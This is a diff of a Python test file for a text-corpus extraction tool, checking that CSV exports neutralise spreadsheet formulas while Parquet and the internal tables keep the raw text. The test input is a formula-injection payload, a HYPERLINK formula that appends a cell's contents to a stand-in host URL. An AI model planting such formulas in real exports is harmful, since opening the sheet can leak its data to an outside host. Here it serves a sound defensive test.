@@ -252,7 +252,8 @@ FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
 def test_csv_exports_neutralise_formulas_and_parquet_keeps_the_text(tmp_path: Path):
     folder = tmp_path / "corpus"
     folder.mkdir()
-    (folder / "=x.txt").write_text(f"{FORMULA}\n\n+Moscow said on Tuesday it would host talks.\n", encoding="utf-8")
+    (folder / "=x.txt").write_text(f"Envoys to meet in Geneva next week\n\n{FORMULA}\n\n"
+                                   "+Moscow said on Tuesday it would host talks.\n", encoding="utf-8")
     (folder / "plain.txt").write_text(GOOD, encoding="utf-8")
     result = run_cli("extract", str(folder), "--csv", str(tmp_path / "csv"))
     assert result.returncode == 0, result.stderr
@@ -264,12 +265,12 @@ def test_csv_exports_neutralise_formulas_and_parquet_keeps_the_text(tmp_path: Pa
                 assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), (name, row)
     with open(tmp_path / "csv" / "articles.csv", encoding="utf-8", newline="") as handle:
         rows = {row["id"]: row for row in csv_module.DictReader(handle)}
-    assert rows["'=x"]["title"] == "'" + FORMULA
+    assert rows["'=x"]["body"].startswith("'" + FORMULA)
     # the tables themselves, and Parquet, keep the text as it is
     corpus = load_corpus(folder)
-    assert corpus.articles.set_index("id").loc["=x", "title"] == FORMULA
+    assert corpus.articles.set_index("id").loc["=x", "body"].startswith(FORMULA)
     run_cli("extract", str(folder), "--out", str(tmp_path / "tables"), "--workers", "1")
-    assert load_corpus(tmp_path / "tables").articles.set_index("id").loc["=x", "title"] == FORMULA
+    assert load_corpus(tmp_path / "tables").articles.set_index("id").loc["=x", "body"].startswith(FORMULA)
 
 
 def test_figure_data_csv_is_spreadsheet_safe(tmp_path: Path):
